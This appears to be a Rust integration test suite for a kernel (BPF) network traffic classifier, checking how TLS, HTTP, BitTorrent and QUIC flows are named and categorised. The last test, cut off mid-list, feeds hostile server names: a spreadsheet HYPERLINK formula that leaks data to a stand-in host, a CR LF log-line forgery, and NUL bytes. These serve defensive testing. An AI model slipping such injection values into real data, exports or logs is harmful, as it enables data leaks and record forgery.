//! Classification by the real programs (BPF_PROG_TEST_RUN) with the default council
//! policy installed: frames in; class, method, flags and the name events out.

use aya::maps::{MapData, RingBuf};
use classifier_common::{
    flow::{FlowKey, ip_proto, ipv4_mapped},
    host_name::is_host_name,
    stats::Stat,
    testing::{Hello, chrome_like},
};
use classifier_tests::{
    frames::{self, CLIENT_V4, SERVER_V4, Way},
    privileged,
    run::{XDP_PASS, run_frame},
};
use classifier_user::{
    events::{self, Event, Learned},
    flows::{DatapathClock, FlowNames, FlowRecord, Name, Names, names},
    loader::Datapath,
    metrics,
    policy::Policy,
    quic::initial::{QuicVersion, testing::client_initial},
};

/// The daemon's state around a test datapath with the default policy, and its events.
struct Harness {
    state: Offline,
    events: RingBuf<MapData>,
}

/// What the daemon holds for classification, without an interface.
struct Offline {
    datapath: Datapath,
    policy: Policy,
    learned: Learned,
}

impl Harness {
    fn new() -> Self {
        Self::with_policy(Policy::default_council())
    }

    fn with_policy(policy: Policy) -> Self {
        let mut datapath = Datapath::load().expect("the kernel loads the datapath");
        datapath
            .install_tables(&policy.classes, &policy.datapath)
            .unwrap();
        let events = datapath.take_events().unwrap();
        let state = Offline {
            datapath,
            policy,
            learned: Learned::default(),
        };
        Self { state, events }
    }

    /// Runs the frames, then lets the daemon's event handling see what they produced.
    fn send(&mut self, frames: &[(Way, Vec<u8>)]) -> Vec<Event> {
        self.send_for_verdicts(frames).1
    }

    /// [`Harness::send`], also returning each frame's verdict.
    fn send_for_verdicts(&mut self, frames: &[(Way, Vec<u8>)]) -> (Vec<u32>, Vec<Event>) {
        let mut verdicts = Vec::new();
        let mut seen = Vec::new();
        for (way, frame) in frames {
            verdicts.push(run_frame(&mut self.state.datapath, *way, frame));
            while let Some(record) = self.events.next() {
                if let Some(event) = events::decode(&record) {
                    seen.push(event.clone());
                    let state = &mut self.state;
                    state
                        .learned
                        .apply(event, &mut state.datapath, &state.policy);
                }
            }
        }
        (verdicts, seen)
    }

    fn record(&self, key: &FlowKey) -> FlowRecord {
        let table = &self.state.datapath.maps().flows;
        let entry = table
            .get(key, 0)
            .unwrap_or_else(|e| panic!("no flow {key:?}: {e}"));
        FlowRecord::from_entry(
            key,
            &entry,
            &DatapathClock::now().unwrap(),
            &self.state.policy,
            self.state.learned.names.get(key),
        )
    }

    /// The flow's names as a daemon that heard none of the events finds them (one started
    /// after a crash): in the kernel's `NAMES`.
    fn kept_names(&self, key: &FlowKey) -> Option<Names> {
        let table = &self.state.datapath.maps().flows;
        let entry = table.get(key, 0).unwrap();
        let kept = &self.state.datapath.maps().names;
        names::of_flow(&FlowNames::default(), Some(kept), key, &entry)
    }

    fn stat(&self, stat: Stat) -> u64 {
        metrics::read_stats(&self.state.datapath.maps().stats)
            .unwrap()
            .get(stat)
    }
}

fn host(name: &str) -> Name {
    Name::Host(name.to_owned())
}

fn key(protocol: u8, client_port: u16, server_port: u16) -> FlowKey {
    FlowKey {
        client_addr: ipv4_mapped(CLIENT_V4),
        server_addr: ipv4_mapped(SERVER_V4),
        client_port,
        server_port,
        protocol,
        _pad: [0; 3],
    }
}

/// What a flow must come out as.
struct Expected {
    name: Option<&'static str>,
    category: &'static str,
    app: &'static str,
    method: &'static str,
    ech: bool,
    unreadable: bool,
}

const fn named(
    name: &'static str,
    category: &'static str,
    app: &'static str,
    method: &'static str,
) -> Expected {
    Expected {
        name: Some(name),
        category,
        app,
        method,
        ech: false,
        unreadable: false,
    }
}

const fn unnamed(category: &'static str, app: &'static str, method: &'static str) -> Expected {
    Expected {
        name: None,
        category,
        app,
        method,
        ech: false,
        unreadable: false,
    }
}

type Frames = Vec<(Way, Vec<u8>)>;

/// One row: a flow's frames, through a fresh datapath, and what the flow must come out as.
struct Case {
    name: &'static str,
    key: FlowKey,
    frames: Frames,
    expected: Expected,
}

/// A TCP row: handshake from `port` to `server_port`, then `stream` in `mss`-byte segments.
fn tcp_case(
    name: &'static str,
    port: u16,
    server_port: u16,
    stream: &[u8],
    mss: usize,
    expected: Expected,
) -> Case {
    Case {
        name,
        key: key(ip_proto::TCP, port, server_port),
        frames: tcp_flow(port, server_port, stream, mss),
        expected,
    }
}

fn run_cases(cases: Vec<Case>) {
    for case in cases {
        let mut harness = Harness::new();
        harness.send(&case.frames);
        check(&harness, case.name, &case.key, &case.expected);
    }
}

/// A TCP flow from client port `port` to `server_port`: handshake, then `stream` cut into
/// `mss`-byte segments.
fn tcp_flow(port: u16, server_port: u16, stream: &[u8], mss: usize) -> Frames {
    let mut frames = vec![
        (Way::Up, frames::tcp4(Way::Up, port, server_port, "S", b"")),
        (
            Way::Down,
            frames::tcp4(Way::Down, port, server_port, "SA", b""),
        ),
        (Way::Up, frames::tcp4(Way::Up, port, server_port, "A", b"")),
    ];
    frames.extend(
        frames::tcp4_stream(port, server_port, frames::FIRST_SEQ, stream, mss)
            .into_iter()
            .map(|f| (Way::Up, f)),
    );
    frames
}

fn check(harness: &Harness, case: &str, key: &FlowKey, expected: &Expected) {
    let record = harness.record(key);
    let got = (
        record.name.as_deref(),
        record.category.as_str(),
        record.app.as_str(),
        record.method.as_str(),
        record.ech,
        record.unreadable,
    );
    let want = (
        expected.name,
        expected.category,
        expected.app,
        expected.method,
        expected.ech,
        expected.unreadable,
    );
    assert_eq!(
        got, want,
        "{case}: (name, category, app, method, ech, unreadable)"
    );
    // The kernel kept the same name (the datapath's, or the daemon's for QUIC), for a
    // daemon that starts after this one dies.
    let kept = harness.kept_names(key);
    assert_eq!(
        kept.as_ref().and_then(Names::first_host),
        expected.name,
        "{case}: the name kept in NAMES"
    );
}

#[test]
fn tls_client_hellos_whole_split_and_broken() {
    if !privileged("tls_client_hellos_whole_split_and_broken") {
        return;
    }
    let chrome = chrome_like("rr3---sn-aigl6nzr.googlevideo.com");
    let sni_offset = chrome.windows(4).position(|w| w == b"rr3-").unwrap();
    assert!(
        sni_offset > 1448,
        "the test ClientHello has its name in the second segment"
    );
    // A record header 40 bytes short of its handshake: what follows is no record at all.
    let mut cut_record = Hello::new().sni("www.twitch.tv").bytes();
    let short = (cut_record.len() - 5 - 40) as u16;
    cut_record[3..5].copy_from_slice(&short.to_be_bytes());
    let mut bad_sni_length = Hello::new().sni("www.netflix.com").bytes();
    let at = bad_sni_length
        .windows(15)
        .position(|w| w == b"www.netflix.com")
        .unwrap();
    bad_sni_length[at - 1] = 0xff; // the name's length points past the extension
    // The longest host name (253 bytes), and the longest name the datapath reads (255
    // bytes), which is no host name.
    let label = "a".repeat(63);
    let long_name: &'static str =
        format!("{label}.{label}.{label}.{}.example", "a".repeat(53)).leak();
    let too_long: &'static str = format!("{}.example", "a".repeat(255 - ".example".len())).leak();
    let youtube_cdn = "rr3---sn-aigl6nzr.googlevideo.com";
    let with_ech = |expected: Expected| Expected {
        ech: true,
        ..expected
    };
    let unreadable = || Expected {
        unreadable: true,
        ..unnamed("unreadable", "tls", "none")
    };
    let hello = |name: &str| Hello::new().sni(name).bytes();
    run_cases(vec![
        tcp_case(
            "one segment, TLS 1.3",
            41001,
            443,
            &hello("www.youtube.com"),
            1448,
            named("www.youtube.com", "streaming-video", "youtube", "sni"),
        ),
        tcp_case(
            "post-quantum ClientHello in two segments, name in the second",
            41002,
            443,
            &chrome,
            1448,
            with_ech(named(youtube_cdn, "streaming-video", "youtube", "sni")),
        ),
        tcp_case(
            "three segments",
            41003,
            443,
            &chrome,
            700,
            with_ech(named(youtube_cdn, "streaming-video", "youtube", "sni")),
        ),
        tcp_case(
            "a record header that does not fit its handshake",
            41004,
            443,
            &cut_record,
            1448,
            unreadable(),
        ),
        tcp_case(
            "name length past its extension",
            41005,
            443,
            &bad_sni_length,
            1448,
            unreadable(),
        ),
        tcp_case(
            "upper case and a trailing dot: matched, reported as sent",
            41006,
            443,
            &hello("WWW.Bet365.COM."),
            1448,
            named("WWW.Bet365.COM.", "gambling", "tls", "sni"),
        ),
        tcp_case(
            "punycode name, not listed",
            41007,
            443,
            &hello("xn--bcher-kva.example"),
            1448,
            named("xn--bcher-kva.example", "uncategorized", "tls", "sni"),
        ),
        tcp_case(
            "253-byte name",
            41008,
            443,
            &hello(long_name),
            1448,
            named(long_name, "uncategorized", "tls", "sni"),
        ),
        tcp_case(
            "255-byte name: read, but no host name, so not recorded as one",
            41016,
            443,
            &hello(too_long),
            1448,
            unnamed("uncategorized", "tls", "sni"),
        ),
        tcp_case(
            "longest listed suffix wins",
            41009,
            443,
            &hello("music.youtube.com"),
            1448,
            named(
                "music.youtube.com",
                "streaming-audio",
                "youtube-music",
                "sni",
            ),
        ),
        tcp_case(
            "ClientHello larger than the 4 KiB the datapath buffers, name within them",
            41011,
            443,
            &Hello::new()
                .sni("www.youtube.com")
                .ext(0x0015, vec![0; 4200])
                .bytes(),
            1448,
            named("www.youtube.com", "streaming-video", "youtube", "sni"),
        ),
        tcp_case(
            "ClientHello larger than the 4 KiB the datapath buffers, name beyond them",
            41015,
            443,
            &Hello::new()
                .ext(0x0015, vec![0; 4200])
                .sni("www.youtube.com")
                .bytes(),
            1448,
            unreadable(),
        ),
        tcp_case(
            "the name after more extensions than any client sends",
            41012,
            443,
            &crowded_hello("www.youtube.com"),
            1448,
            unreadable(),
        ),
        tcp_case(
            "a name shorter than its list says (a prefix is not the name)",
            41013,
            443,
            &short_name_hello(),
            1448,
            unreadable(),
        ),
        tcp_case(
            "TLS on a BitTorrent port: the name replaces the port's class",
            41014,
            6887,
            &hello("www.youtube.com"),
            1448,
            named("www.youtube.com", "streaming-video", "youtube", "sni"),
        ),
        tcp_case(
            "no server name",
            41010,
            443,
            &Hello::new().ext(0x000d, vec![0, 2, 4, 3]).bytes(),
            1448,
            unnamed("uncategorized", "tls", "none"),
        ),
    ]);
}

/// A ClientHello with 45 empty extensions before its server name.
fn crowded_hello(name: &str) -> Vec<u8> {
    (0..45u16)
        .fold(Hello::new(), |hello, i| hello.ext(0xff00 + i, vec![]))
        .sni(name)
        .bytes()
}

/// `www.bbc.co.uk` whose name length says 9, leaving `o.uk` as junk in the name list.
fn short_name_hello() -> Vec<u8> {
    let mut bytes = Hello::new().sni("www.bbc.co.uk").bytes();
    let at = bytes
        .windows(13)
        .position(|w| w == b"www.bbc.co.uk")
        .unwrap();
    bytes[at - 2..at].copy_from_slice(&9u16.to_be_bytes());
    bytes
}

#[test]
fn a_name_is_sent_to_the_daemon_once_per_flow() {
    if !privileged("a_name_is_sent_to_the_daemon_once_per_flow") {
        return;
    }
    let mut harness = Harness::new();
    let chrome = chrome_like("rr3---sn-aigl6nzr.googlevideo.com");
    let mut frames = tcp_flow(41101, 443, &chrome, 700);
    let next = 1000 + chrome.len() as u32;
    // The rest of the connection: application data both ways.
    for i in 0..5u32 {
        frames.push((
            Way::Up,
            frames::tcp4_seq(Way::Up, 41101, 443, "PA", next + i * 100, &[0x17; 100]),
        ));
        frames.push((
            Way::Down,
            frames::tcp4(Way::Down, 41101, 443, "PA", &[0x17; 900]),
        ));
    }
    let events = harness.send(&frames);
    let names: Vec<&Event> = events
        .iter()
        .filter(|e| matches!(e, Event::Classified { .. }))
        .collect();
    assert_eq!(names.len(), 1, "one name event: {events:?}");
    assert!(
        matches!(
            names[0],
            Event::Classified {
                name_kept: true,
                ..
            }
        ),
        "the datapath kept the name in NAMES: {names:?}"
    );
}

#[test]
fn names_kept_in_the_kernel_are_adopted_by_a_new_daemon_and_stale_ones_removed() {
    if !privileged("names_kept_in_the_kernel_are_adopted_by_a_new_daemon") {
        return;
    }
    use classifier_common::names::{NameKey, version};
    let mut harness = Harness::new();
    let tls = key(ip_proto::TCP, 41401, 443);
    harness.send(&tcp_flow(
        41401,
        443,
        &Hello::new().sni("www.youtube.com").bytes(),
        1448,
    ));
    let http = key(ip_proto::TCP, 41402, 80);
    harness.send(&tcp_flow(
        41402,
        80,
        b"GET / HTTP/1.1\r\nHost: www.BBC.co.uk\r\nAccept: */*\r\n\r\n",
        1448,
    ));
    let datapath = &mut harness.state.datapath;
    let first_seen = datapath.maps().flows.get(&tls, 0).unwrap().first_seen_ns;
    // Stale names: one of a flow no longer in the table, and a second name of an earlier
    // flow on the TLS flow's addresses and ports (another first packet).
    let gone = key(ip_proto::TCP, 41499, 443);
    {
        let kept = &mut datapath.maps_mut().names;
        names::keep(kept, &gone, version::FIRST, 1, &host("gone.example")).unwrap();
        names::keep(
            kept,
            &tls,
            version::SECOND,
            first_seen + 1,
            &host("earlier.example"),
        )
        .unwrap();
    }

    // A daemon that heard none of the events (one started after a kill -9).
    let mut fresh = Learned::default();
    fresh.adopt_kept_names(datapath).unwrap();
    assert_eq!(
        fresh.names.get(&tls),
        Some(&Names {
            first: Some(host("www.youtube.com")),
            second: None,
        }),
        "the TLS flow's name, and not the earlier flow's"
    );
    assert_eq!(
        fresh.names.get(&http).and_then(Names::first_host),
        Some("www.BBC.co.uk"),
        "the Host as sent"
    );
    assert_eq!(fresh.names.get(&gone), None);
    let is_kept = |datapath: &Datapath, key: &FlowKey, which| {
        let kept = &datapath.maps().names;
        kept.get(&NameKey::new(*key, which), 0).is_ok()
    };
    assert!(!is_kept(datapath, &gone, version::FIRST), "removed");
    assert!(!is_kept(datapath, &tls, version::SECOND), "removed");

    // Recorded: forgotten.
    names::forget(&mut datapath.maps_mut().names, &tls);
    assert!(!is_kept(datapath, &tls, version::FIRST));
    assert!(is_kept(datapath, &http, version::FIRST));
}

#[test]
fn vlan_tags_ip_options_and_tcp_options_are_stepped_over() {
    if !privileged("vlan_tags_ip_options_and_tcp_options_are_stepped_over") {
        return;
    }
    let mut harness = Harness::new();
    let hello = Hello::new().sni("www.netflix.com").bytes();
    let port = 41201;
    harness.send(&[
        (
            Way::Up,
            frames::tcp4_vlan_with_options(30, port, 443, "S", 999, b""),
        ),
        (Way::Down, frames::tcp4(Way::Down, port, 443, "SA", b"")),
        (
            Way::Up,
            frames::tcp4_vlan_with_options(30, port, 443, "PA", 1000, &hello),
        ),
    ]);
    let flow = key(ip_proto::TCP, port, 443);
    check(
        &harness,
        "VLAN 30, IPv4 router alert, TCP MSS and timestamps",
        &flow,
        &named("www.netflix.com", "streaming-video", "netflix", "sni"),
    );
    assert_eq!(harness.record(&flow).vlan, Some(30));
}

#[test]
fn a_domain_entry_whose_check_differs_is_not_a_match() {
    if !privileged("a_domain_entry_whose_check_differs_is_not_a_match") {
        return;
    }
    // The entry of youtube.com made to look like another domain's with the same 64-bit
    // key: the datapath must confirm the check before it names the flow.
    let mut policy = Policy::default_council();
    let hash = classifier_common::domain::domain_hash(b"youtube.com");
    let entry = policy
        .classes
        .domains
        .get_mut(&hash.key)
        .expect("youtube.com is listed");
    entry.check ^= 1;
    let mut harness = Harness::with_policy(policy);
    harness.send(&tcp_flow(
        41301,
        443,
        &Hello::new().sni("www.youtube.com").bytes(),
        1448,
    ));
    check(
        &harness,
        "same key, other check",
        &key(ip_proto::TCP, 41301, 443),
        &named("www.youtube.com", "uncategorized", "tls", "sni"),
    );
}

#[test]
fn split_client_hello_survives_retransmission_and_waits_for_a_missing_segment() {
    if !privileged("split_client_hello_survives_retransmission") {
        return;
    }
    let chrome = chrome_like("www.netflix.com");
    let segments = frames::tcp4_stream(42001, 443, frames::FIRST_SEQ, &chrome, 1448);
    let mut harness = Harness::new();
    harness.send(&[
        (Way::Up, segments[0].clone()),
        (Way::Up, segments[0].clone()), // retransmitted before the second arrives
        (Way::Up, segments[1].clone()),
    ]);
    check(
        &harness,
        "retransmission",
        &key(ip_proto::TCP, 42001, 443),
        &Expected {
            ech: true,
            ..named("www.netflix.com", "streaming-video", "netflix", "sni")
        },
    );
    assert_eq!(
        harness.stat(Stat::StreamConflicts),
        0,
        "equal bytes are no conflict"
    );

    let cut = frames::tcp4_stream(42002, 443, frames::FIRST_SEQ, &chrome, 700);
    let mut harness = Harness::new();
    harness.send(&[(Way::Up, cut[0].clone()), (Way::Up, cut[2].clone())]);
    check(
        &harness,
        "a segment missing: nothing named, nothing guessed, still waiting",
        &key(ip_proto::TCP, 42002, 443),
        &unnamed("uncategorized", "unknown", "none"),
    );
    // The server acknowledges the whole hello: it took bytes the classifier never held.
    harness.send(&[(
        Way::Down,
        frames::tcp4_seq_ack(
            Way::Down,
            42002,
            443,
            "A",
            frames::FIRST_SEQ,
            frames::FIRST_SEQ + chrome.len() as u32,
            b"",
        ),
    )]);
    check(
        &harness,
        "acknowledged by the server, unread by us: unreadable",
        &key(ip_proto::TCP, 42002, 443),
        &Expected {
            unreadable: true,
            ..unnamed("unreadable", "unknown", "none")
        },
    );
    assert_eq!(harness.stat(Stat::Unreadable), 1);
}

#[test]
fn http_requests_and_trackers() {
    if !privileged("http_requests_and_trackers") {
        return;
    }
    run_cases(vec![
        tcp_case(
            "Host header",
            43001,
            80,
            b"GET / HTTP/1.1\r\nUser-Agent: curl/7.88\r\nHost: open.spotify.com\r\n\r\n",
            1448,
            named("open.spotify.com", "streaming-audio", "spotify", "host"),
        ),
        tcp_case(
            // Three segments: the Host line is cut in two.
            "request split across segments",
            43002,
            80,
            b"GET /iplayer HTTP/1.1\r\nHost: www.bbc.co.uk\r\nAccept: */*\r\n\r\n",
            25,
            named("www.bbc.co.uk", "uncategorized", "http", "host"),
        ),
        tcp_case(
            "BitTorrent tracker announce",
            43003,
            6969,
            b"GET /announce?info_hash=%12%34&peer_id=-AR1360-&port=6881 HTTP/1.1\r\n\
              Host: tracker.example.org\r\n\r\n",
            1448,
            named(
                "tracker.example.org",
                "file-sharing",
                "bittorrent",
                "bt-tracker",
            ),
        ),
    ]);
}

#[test]
fn bittorrent_signatures_and_the_peer_cache() {
    if !privileged("bittorrent_signatures_and_the_peer_cache") {
        return;
    }
    let mut harness = Harness::new();
    let mut handshake = b"\x13BitTorrent protocol".to_vec();
    handshake.extend_from_slice(&[0u8; 48]);
    harness.send(&tcp_flow(44001, 51413, &handshake, 1448));
    check(
        &harness,
        "peer-wire handshake",
        &key(ip_proto::TCP, 44001, 51413),
        &unnamed("file-sharing", "bittorrent", "bt-handshake"),
    );

    // A later, encrypted (MSE/PE) connection to the same peer has no signature at all.
    let encrypted: Vec<u8> = (0..96u32).map(|i| (i * 37 + 11) as u8).collect();
    harness.send(&tcp_flow(44002, 51413, &encrypted, 1448));
    check(
        &harness,
        "encrypted flow to a known peer",
        &key(ip_proto::TCP, 44002, 51413),
        &unnamed("file-sharing", "bittorrent", "peer-cache"),
    );

    let dht = b"d1:ad2:id20:abcdefghij0123456789e1:q4:ping1:t2:aa1:y1:qe";
    let mut utp = [0u8; 20];
    utp[0] = 0x41;
    let mut connect = vec![0, 0, 0x04, 0x17, 0x27, 0x10, 0x19, 0x80, 0, 0, 0, 0];
    connect.extend_from_slice(&[9, 9, 9, 9]);
    for (case, port, server_port, payload, method) in [
        ("DHT query", 44003u16, 6881u16, dht.to_vec(), "bt-dht"),
        ("uTP SYN", 44004, 40000, utp.to_vec(), "bt-utp"),
        ("UDP tracker connect", 44005, 1337, connect, "bt-tracker"),
    ] {
        harness.send(&[(Way::Up, frames::udp4(Way::Up, port, server_port, &payload))]);
        check(
            &harness,
            case,
            &key(ip_proto::UDP, port, server_port),
            &unnamed("file-sharing", "bittorrent", method),
        );
    }
    // Port 6881 itself is a known peer by now (the DHT case): take another BitTorrent port.
    harness.send(&tcp_flow(44006, 6887, b"SSH-2.0-OpenSSH_9.2\r\n", 1448));
    check(
        &harness,
        "port rule",
        &key(ip_proto::TCP, 44006, 6887),
        &unnamed("file-sharing", "unknown", "port"),
    );
}

#[test]
fn quic_initials_are_named_by_the_daemon_and_the_class_handed_back() {
    if !privileged("quic_initials_are_named_by_the_daemon") {
        return;
    }
    let record = chrome_like("rr5---sn-q4fl6n6s.googlevideo.com");
    let hello = classifier_common::testing::handshake_of(&record);
    let (first, second) = hello.split_at(1100);
    let dcid = [7u8; 8];
    let initials = [
        client_initial(QuicVersion::V1, &dcid, 0, 0, first),
        client_initial(QuicVersion::V1, &dcid, 1, 1100, second),
    ];
    let mut harness = Harness::new();
    let quic_key = key(ip_proto::UDP, 45001, 443);
    let sent = harness.send(&[(Way::Up, frames::udp4(Way::Up, 45001, 443, &initials[0]))]);
    assert!(
        matches!(&sent[..], [Event::QuicInitial { datagram, truncated: false, .. }] if *datagram == initials[0]),
        "the first Initial goes to the daemon whole: {sent:?}"
    );
    check(
        &harness,
        "waiting for the second Initial",
        &quic_key,
        &unnamed("quic", "quic", "none"),
    );
    harness.send(&[(Way::Up, frames::udp4(Way::Up, 45001, 443, &initials[1]))]);
    // The daemon has written the class; the flow's next packet picks it up.
    harness.send(&[(
        Way::Up,
        frames::udp4(Way::Up, 45001, 443, b"short header packet"),
    )]);
    check(
        &harness,
        "named from the decrypted ClientHello (GREASE ECH, as Chrome sends, reported)",
        &quic_key,
        &Expected {
            ech: true,
            ..named(
                "rr5---sn-q4fl6n6s.googlevideo.com",
                "streaming-video",
                "youtube",
                "quic",
            )
        },
    );
    assert_eq!(harness.stat(Stat::QuicToDaemon), 2);

    // Something that only looks like an Initial: unreadable, so QUIC of unknown name.
    let mut harness = Harness::new();
    let lookalike = frames::quic_initial_like(45002);
    harness.send(&[(Way::Up, lookalike.clone()), (Way::Up, lookalike)]);
    check(
        &harness,
        "unreadable Initial",
        &key(ip_proto::UDP, 45002, 443),
        &unnamed("quic", "quic", "quic"),
    );
}

/// The default policy with one setting changed (`from` → `to` in its text).
fn default_policy_with(from: &str, to: &str) -> Policy {
    let text = classifier_user::policy::DEFAULT_POLICY;
    assert!(text.contains(from), "the default policy has `{from}`");
    Policy::parse(
        &text.replace(from, to),
        std::path::Path::new("variant.toml"),
        std::path::Path::new("."),
    )
    .unwrap()
}

/// Two client Initials of `version` carrying a Chrome-like ClientHello for `name`.
fn quic_initials(version: QuicVersion, name: &str) -> [Vec<u8>; 2] {
    let record = chrome_like(name);
    let hello = classifier_common::testing::handshake_of(&record);
    let (first, second) = hello.split_at(1100);
    let dcid = [9u8; 8];
    [
        client_initial(version, &dcid, 0, 0, first),
        client_initial(version, &dcid, 1, 1100, second),
    ]
}

#[test]
fn quic_v2_held_until_named_and_protocol_only_mode() {
    if !privileged("quic_v2_held_until_named_and_protocol_only_mode") {
        return;
    }
    const XDP_DROP: u32 = 1;
    let name = "open.spotify.com";
    let initials = quic_initials(QuicVersion::V2, name);
    let datagrams = |port: u16| -> Frames {
        initials
            .iter()
            .map(|i| i.as_slice())
            .chain([b"short header packet".as_slice()])
            .map(|payload| (Way::Up, frames::udp4(Way::Up, port, 443, payload)))
            .collect()
    };

    // QUIC v2 (RFC 9369), held: both Initials are dropped while the daemon reads the
    // name, and the packet after the class is handed back passes.
    let held = default_policy_with(
        "hold_until_classified = false",
        "hold_until_classified = true",
    );
    let mut harness = Harness::with_policy(held);
    let (verdicts, _) = harness.send_for_verdicts(&datagrams(45101));
    assert_eq!(
        verdicts,
        [XDP_DROP, XDP_DROP, XDP_PASS],
        "held, then passed"
    );
    check(
        &harness,
        "QUIC v2, named by the daemon",
        &key(ip_proto::UDP, 45101, 443),
        &Expected {
            ech: true,
            ..named(name, "streaming-audio", "spotify", "quic")
        },
    );

    // Protocol-only: nothing goes to the daemon, the flow is QUIC by protocol, unheld.
    let protocol_only = default_policy_with("mode = \"classify\"", "mode = \"protocol-only\"");
    let mut harness = Harness::with_policy(protocol_only);
    let (verdicts, events) = harness.send_for_verdicts(&datagrams(45102));
    assert_eq!(verdicts, [XDP_PASS; 3]);
    assert!(
        !events
            .iter()
            .any(|e| matches!(e, Event::QuicInitial { .. })),
        "no Initial for the daemon: {events:?}"
    );
    check(
        &harness,
        "protocol-only",
        &key(ip_proto::UDP, 45102, 443),
        &unnamed("quic", "quic", "quic"),
    );
    assert_eq!(harness.stat(Stat::QuicToDaemon), 0);
}

#[test]
fn the_peer_cache_forgets_peers_after_its_ttl() {
    if !privileged("the_peer_cache_forgets_peers_after_its_ttl") {
        return;
    }
    let policy = default_policy_with("peer_ttl = \"10 minutes\"", "peer_ttl = \"1s\"");
    let mut harness = Harness::with_policy(policy);
    let mut handshake = b"\x13BitTorrent protocol".to_vec();
    handshake.extend_from_slice(&[0u8; 48]);
    harness.send(&tcp_flow(44101, 51500, &handshake, 1448));
    let encrypted: Vec<u8> = (0..96u32).map(|i| (i * 37 + 11) as u8).collect();
    harness.send(&tcp_flow(44102, 51500, &encrypted, 1448));
    check(
        &harness,
        "within the TTL",
        &key(ip_proto::TCP, 44102, 51500),
        &unnamed("file-sharing", "bittorrent", "peer-cache"),
    );
    std::thread::sleep(std::time::Duration::from_millis(2200));
    harness.send(&tcp_flow(44103, 51500, &encrypted, 1448));
    check(
        &harness,
        "after the TTL",
        &key(ip_proto::TCP, 44103, 51500),
        &unnamed("uncategorized", "unknown", "none"),
    );
}

/// Every flow of a mutation run: what it was sent and what the datapath made of it.
struct Mutant {
    port: u16,
    payload: Vec<u8>,
}

/// Runs each mutant as its own flow (one port each) through one datapath; returns the
/// harness to read the flows from.
fn run_mutants(mutants: &[Mutant], server_port: u16) -> Harness {
    let mut harness = Harness::new();
    for mutant in mutants {
        harness.send(&tcp_flow(mutant.port, server_port, &mutant.payload, 1448));
    }
    harness
}

/// `good` with each byte of `range` set in turn to each of `values`, one flow per port
/// from `first_port`.
fn mutants(
    good: &[u8],
    range: std::ops::Range<usize>,
    values: &[u8],
    first_port: u16,
) -> Vec<Mutant> {
    let mut port = first_port;
    let mut all = Vec::new();
    for index in range {
        for value in values {
            if good[index] == *value {
                continue;
            }
            let mut payload = good.to_vec();
            payload[index] = *value;
            all.push(Mutant { port, payload });
            port += 1;
        }
    }
    all
}

#[test]
fn corrupted_client_hellos_give_the_sent_name_no_name_or_unreadable_never_another() {
    if !privileged("corrupted_client_hellos_give_the_sent_name") {
        return;
    }
    let name = "www.youtube.com";
    let good = Hello::new().sni(name).ext(0x000d, vec![0, 2, 4, 3]).bytes();
    let at = good
        .windows(name.len())
        .position(|w| w == name.as_bytes())
        .unwrap();
    // From the server_name extension's type to the end of the name: type, length, list
    // length, entry type, name length, name.
    let all = mutants(
        &good,
        at - 9..at + name.len(),
        // 'x' keeps a name a host name; the others make it none.
        &[0x00, 0x01, b'x', 0x7f, 0xff],
        20000,
    );
    let harness = run_mutants(&all, 443);
    let classes = &harness.state.policy.classes;
    let mut seen = [0usize; 4];
    for mutant in &all {
        let record = harness.record(&key(ip_proto::TCP, mutant.port, 443));
        let sent = &mutant.payload[at..at + name.len()];
        let category_of_sent = classes
            .lookup(&String::from_utf8_lossy(sent))
            .map_or("uncategorized", |e| classes.category_name(e.category));
        match &record.name {
            Some(got) => {
                seen[0] += 1;
                assert_eq!(
                    got.as_bytes(),
                    sent,
                    "the name is the bytes where it was sent"
                );
                assert_eq!(record.category, category_of_sent, "{got}: its own category");
            }
            // Read where it was sent, but a NUL, DEL or 0xff made it no host name.
            None if record.evasion.iter().any(|n| n == names::NOT_A_HOST_NAME) => {
                seen[3] += 1;
                assert!(!is_host_name(sent), "{sent:?} is a host name: {record:?}");
                assert_eq!(record.category, category_of_sent, "{record:?}");
            }
            None if record.unreadable => {
                seen[1] += 1;
                assert_eq!(record.category, "unreadable", "{record:?}");
            }
            None => {
                seen[2] += 1;
                assert_eq!(record.category, "uncategorized", "{record:?}");
            }
        }
    }
    assert!(
        seen.iter().all(|n| *n > 0),
        "named, unreadable, nameless and not a host name all occur: {seen:?}"
    );
}

#[test]
fn corrupted_host_lines_give_what_an_http_parser_reads_or_nothing() {
    if !privileged("corrupted_host_lines_give_what_an_http_parser_reads") {
        return;
    }
    let good = b"GET /listen HTTP/1.1\r\nHost: open.spotify.com\r\nAccept: */*\r\n\r\n";
    let line = good.windows(5).position(|w| w == b"Host:").unwrap();
    let line_end = line + b"Host: open.spotify.com\r\n".len();
    let all = mutants(
        good,
        line..line_end,
        &[0x00, b' ', b'\r', b'\n', b'X', b'.', 0xff],
        21000,
    );
    let harness = run_mutants(&all, 80);
    let mut named = 0;
    for mutant in &all {
        let record = harness.record(&key(ip_proto::TCP, mutant.port, 80));
        // What the datapath reads: the request up to the end of the Host line (its first
        // LF), closed there. What follows is not the Host's business.
        let line_feed = line
            + mutant.payload[line..]
                .iter()
                .position(|b| *b == b'\n')
                .unwrap();
        let read = [&mutant.payload[..=line_feed], b"\r\n"].concat();
        let mut headers = [httparse::EMPTY_HEADER; 8];
        let mut request = httparse::Request::new(&mut headers);
        let parsed = request.parse(&read);
        let host = match parsed {
            Ok(httparse::Status::Complete(_)) => request
                .headers
                .iter()
                .find(|h| h.name.eq_ignore_ascii_case("host"))
                .map(|h| String::from_utf8_lossy(h.value).trim().to_owned()),
            _ => None,
        };
        if let Some(got) = &record.name {
            named += 1;
            assert_eq!(
                Some(got),
                host.as_ref(),
                "the datapath's Host must be httparse's: {:?}",
                String::from_utf8_lossy(&mutant.payload)
            );
        }
    }
    assert!(named > 0, "some corrupted lines still carry a name");
}

/// What a hostile client puts where the server name goes, through the real programs and
/// the daemon's capture: never recorded (nor kept, exported, logged) as a name; the record
/// says the flow sent something that was not a host name.
#[test]
fn names_that_are_not_host_names_are_recorded_as_such_never_as_names() {
    if !privileged("names_that_are_not_host_names_are_recorded_as_such_never_as_names") {
        return;
    }
    let label_64 = format!("www.{}.com", "a".repeat(64));
    let label_63 = "a".repeat(63);
    let name_254 = format!("{label_63}.{label_63}.{label_63}.{}", "b".repeat(62));
    let hyperlink = br#"=HYPERLINK("http://evil.example/?leak","click")"#;
    let tls_cases: Vec<(&str, Vec<u8>)> = vec![
        ("a NUL inside", b"www.bet\x00365.com".to_vec()),
        ("a NUL at the end", b"www.youtube.com\0".to_vec()),
        (
            "CR LF and a forged line",
            b"www.bbc.co.uk\r\nINFO forged".to_vec(),
        ),
        (
            "an escape sequence",
